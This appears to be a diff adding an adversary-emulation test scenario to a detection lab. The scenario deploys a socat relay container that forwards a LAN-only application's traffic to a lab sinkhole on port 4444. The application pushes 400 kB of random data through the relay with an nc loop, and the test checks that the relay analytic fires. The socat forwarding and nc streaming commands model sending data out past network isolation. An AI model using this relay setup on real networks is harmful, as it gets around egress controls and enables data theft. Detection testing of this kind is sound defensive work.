@@ -1,0 +1,38 @@
+"""A relay container forwards another container's traffic to an outside endpoint."""
+
+from __future__ import annotations
+
+from lab import Lab, WorkloadSpec
+from scenarios.api import Expectation, Kind, Scenario
+
+PAYLOAD_BYTES = 400_000
+
+
+class Relay(Scenario):
+    id = "docker.network.relay"
+    title = "Relay container forwards an internal workload's traffic to an outside endpoint"
+    kind = Kind.ADVERSARY
+    techniques = ("T1090", "T1090.001")
+    backends = ("docker",)
+    expect = Expectation(fires=("stowaway.analytic.net-relay",), within_s=20)
+    twin = "docker.network.sanctioned-proxy"
+    tags = ("network", "redirection", "proxy")
+    description = (
+        "Deploys a relay container on the LAN and the lab internet running socat, listening on 8443 and "
+        "forwarding every connection to the sinkhole's port 4444, and an application container on the LAN "
+        "only (it has no way out by itself). The application streams 400 kB of data to the relay, which "
+        "passes it on. The scenario checks the sinkhole received the bytes from the relay's address."
+    )
+
+    def detonate(self, lab: Lab) -> None:
+        sink = lab.sinkhole.address
+        relay = lab.deploy(WorkloadSpec(role="edge", networks=("lan", "inet"), labels={"app": "edge-cache"},
+                                        command=("socat", "TCP-LISTEN:8443,fork,reuseaddr", f"TCP:{sink}:4444")))
+        app = lab.deploy(WorkloadSpec(role="app", networks=("lan",), labels={"app": "billing"}))
+        relay_ip = relay.addresses["lan"]
+        lab.action("the application sends its data through the relay")
+        lab.exec(app, "sh", "-c", f"for i in 1 2 3 4 5 6 7 8 9 10; do head -c {PAYLOAD_BYTES} /dev/urandom | "
+                                  f"nc -w 5 -q 2 {relay_ip} 8443 && exit 0; sleep 0.5; done; exit 1")
+        source = relay.addresses["inet"]
+        lab.wait_for(lambda: any(r.get("bytes", 0) >= PAYLOAD_BYTES for r in lab.sinkhole_records(peer=source)),
+                     timeout=15, what="the relayed bytes to reach the sinkhole")
